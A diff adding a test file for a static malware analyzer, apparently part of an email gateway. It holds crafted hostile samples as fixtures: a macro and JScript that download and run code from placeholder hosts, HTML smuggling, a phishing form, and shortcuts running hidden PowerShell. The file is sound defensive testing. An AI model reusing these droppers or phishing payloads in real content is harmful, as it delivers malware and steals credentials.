@@ -1,0 +1,105 @@
+/**
+ * The analyzers on files the tests write: each malicious sample gets its verdict with a reason
+ * that names what it does, each clean look-alike stays benign; through the inspector (types
+ * detected from the bytes, members of archives) and with the verdict store (a known file is
+ * answered from the store; a manual verdict wins).
+ */
+
+import assert from 'node:assert/strict';
+import { mkdtempSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { describe, it } from 'node:test';
+import { analyze } from '../../../src/analysis/analyze.ts';
+import { AnalysisEngine } from '../../../src/analysis/engine.ts';
+import { decompressVba } from '../../../src/analysis/office.ts';
+import { SqliteVerdictStore } from '../../../src/analysis/verdict-store.ts';
+import { identify } from '../../../src/inspect/file-type.ts';
+import { SignatureEngine } from '../../../src/inspect/engines/signatures.ts';
+import { Inspector } from '../../../src/inspect/inspector.ts';
+import { compressVba, iso, lnk, oleWithMacro, pdf, peFile } from '../../helpers/analysis-fixtures.ts';
+import { zip } from '../../helpers/archives.ts';
+
+async function verdict(bytes: Buffer, name: string | null = null, flags: string[] = []) {
+  const id = await identify(bytes.subarray(0, 36 * 1024), bytes.subarray(-512), bytes);
+  return { type: id.type, ...analyze({ bytes, detectedType: id.type, name, flags: [...id.flags, ...flags] }) };
+}
+
+const SAMPLES: ReadonlyArray<readonly [string, () => Buffer, string, string, RegExp]> = [
+  // [what, file, expected type, expected verdict, a reason that must be given]
+  ['PE injecting into other processes', () => peFile({ imports: ['VirtualAllocEx', 'WriteProcessMemory', 'CreateRemoteThread'] }), 'exe', 'malicious', /injecting code into other processes \(VirtualAllocEx, WriteProcessMemory, CreateRemoteThread\)/],
+  ['PE downloading and running, UPX-packed', () => peFile({ imports: ['URLDownloadToFileA', 'WinExec'], sections: ['UPX0', 'UPX1'] }), 'exe', 'malicious', /download a file and run it/],
+  ['Word macro: AutoOpen → Shell(powershell)', () => oleWithMacro('Sub AutoOpen()\r\n  Shell "powershell -w hidden -c iex(iwr http://x)"\r\nEnd Sub\r\n'), 'doc', 'malicious', /macro runs on open and starts a process \(AutoOpen → /],
+  ['PDF with OpenAction JavaScript', () => pdf('1 0 obj << /Type /Catalog /OpenAction 2 0 R >> endobj 2 0 obj << /S /JavaScript /JS (app.alert(1)) >> endobj'), 'pdf', 'grayware', /JavaScript/],
+  ['PDF launching a program, names obfuscated', () => pdf('<< /OpenAction << /S /L#61unch /F (cmd.exe) >> /J#61vaScript (x) /#4As (y) >>'), 'pdf', 'malicious', /Launch action/],
+  ['shortcut running PowerShell hidden', () => lnk('C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', '-w hidden -enc SQBFAFgA'), 'lnk', 'malicious', /shortcut runs powershell/i],
+  ['JScript downloader', () => Buffer.from('var x = new ActiveXObject("MSXML2.XMLHTTP"); x.open("GET","http://e.example/p.exe",false); x.send();\nvar s = new ActiveXObject("ADODB.Stream"); s.SaveToFile("p.exe");\nnew ActiveXObject("WScript.Shell").Run("p.exe");\n'), 'js', 'malicious', /downloads and runs code \(MSXML2\.XMLHTTP → WScript\.Shell\)/],
+  ['HTML smuggling', () => Buffer.from('<html><body><script>var d=atob("TVqQAAMAAAAEAAAA");var a=new Uint8Array(d.length);var b=new Blob([a],{type:"application/octet-stream"});var l=document.createElement("a");l.href=URL.createObjectURL(b);l.download="invoice.exe";l.click();</script></body></html>'), 'html', 'malicious', /HTML smuggling/],
+  ['credential phishing page', () => Buffer.from('<html><body><form action="https://collect.example.net/p.php" method="post"><input name="u"><input type="password" name="p"></form></body></html>'), 'html', 'phishing', /credential form sending a password to a remote site/],
+  ['Internet shortcut to a remote share', () => Buffer.from('[InternetShortcut]\r\nURL=file://203.0.113.9/share/payload.exe\r\n'), 'url', 'grayware', /remote location/],
+  ['ISO holding an executable and a shortcut', () => iso(['setup.exe', 'readme.lnk']), 'iso', 'malicious', /disk image holding files that run \(setup\.exe, readme\.lnk\)/],
+  ['OOXML template injection (settings.xml.rels)', () => Buffer.from('<?xml version="1.0"?><Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://203.0.113.7/t.dotm" TargetMode="External"/></Relationships>'), 'xml', 'grayware', /remote template/],
+];
+
+const CLEAN: ReadonlyArray<readonly [string, () => Buffer]> = [
+  ['a plain PE with ordinary imports, no packer', () => peFile({ imports: ['GetStdHandle', 'WriteFile', 'ExitProcess'] })],
+  ['a PDF with only links', () => pdf('<< /Type /Annot /Subtype /Link /A << /S /URI /URI (https://example.com) >> >>')],
+  ['an HTML newsletter', () => Buffer.from('<html><body><h1>News</h1><a href="https://example.com">read more</a><form action="/search"><input name="q"></form></body></html>')],
+  ['a Word document with a harmless macro', () => oleWithMacro('Sub FormatTable()\r\n  Selection.Font.Bold = True\r\nEnd Sub\r\n')],
+  ['a shortcut to a local document', () => lnk('C:\\Users\\me\\Documents\\report.docx', '')],
+  ['a normal script-looking text file', () => Buffer.from('function add(a, b) { return a + b; }\nconsole.log(add(1, 2));\n')],
+];
+
+describe('static analysis', () => {
+  for (const [what, make, type, expected, reason] of SAMPLES) {
+    it(`${what}: ${expected}`, async () => {
+      const v = await verdict(make());
+      assert.equal(v.type, type);
+      assert.equal(v.verdict, expected, JSON.stringify(v.indicators));
+      assert.ok(v.indicators.some((i) => reason.test(i.reason)), `a reason matching ${reason}: ${v.indicators.map((i) => i.reason).join(' | ')}`);
+    });
+  }
+  for (const [what, make] of CLEAN) {
+    it(`stays benign: ${what}`, async () => {
+      const v = await verdict(make());
+      assert.equal(v.verdict, 'benign', JSON.stringify(v.indicators));
+    });
+  }
+  it('an executable named like a document adds to its score', async () => {
+    const plain = await verdict(peFile({ imports: ['WinExec'] }));
+    const disguised = await verdict(peFile({ imports: ['WinExec'] }), 'invoice.pdf.exe', ['double-extension']);
+    assert.ok(disguised.score >= plain.score + 40);
+  });
+  it('MS-OVBA: decompresses what the compressor wrote, rejects what is not a container', () => {
+    const src = 'Attribute VB_Name = "M"\r\n' + 'x = 1\r\n'.repeat(1000);
+    assert.equal(decompressVba(compressVba(src), 0), src);
+    assert.equal(decompressVba(Buffer.from([0x02, 0, 0]), 0), null);
+  });
+});
+
+describe('analysis in the pipeline, with the verdict store', () => {
+  it('a malicious member of a zip is found with its path; the second copy comes from the store', async () => {
+    const dir = mkdtempSync(join(tmpdir(), 'smtpwall-verdicts-'));
+    const store = new SqliteVerdictStore(dir);
+    try {
+      const inspector = new Inspector({ engines: [new SignatureEngine(), new AnalysisEngine(store)] });
+      const archive = zip([{ name: 'docs/invoice.pdf.lnk', data: lnk('C:\\Windows\\System32\\cmd.exe', '/c powershell -w hidden') }, { name: 'note.txt', data: Buffer.from('hi') }]);
+      const first = await inspector.scanBuffer(archive, false, 5000, 'a.zip');
+      const f = first.findings.find((x) => x.engine === 'analysis')!;
+      assert.equal(f.threat, 'Analysis.Malicious.lnk');
+      assert.equal(f.file.path, 'a.zip/docs/invoice.pdf.lnk');
+      assert.match(f.signature, /^analysis score \d+: shortcut runs cmd\.exe with arguments/);
+      const second = await inspector.scanBuffer(archive, false, 5000, 'b.zip');
+      assert.match(second.findings.find((x) => x.engine === 'analysis')!.signature, /\(known, analysis\)/);
+      const stored = store.get(f.file.sha256)!;
+      assert.equal(stored.seen, 2);
+      assert.equal(stored.verdict, 'malicious');
+      store.override(f.file.sha256, 'benign', 'our admin tool');
+      const third = await inspector.scanBuffer(archive, false, 5000, 'c.zip');
+      assert.deepEqual(third.findings.filter((x) => x.engine === 'analysis'), [], 'a manual benign verdict wins');
+      assert.deepEqual(store.get(f.file.sha256)!.reasons, ['manual: our admin tool']);
+    } finally {
+      store.close();
+    }
+  });
+});
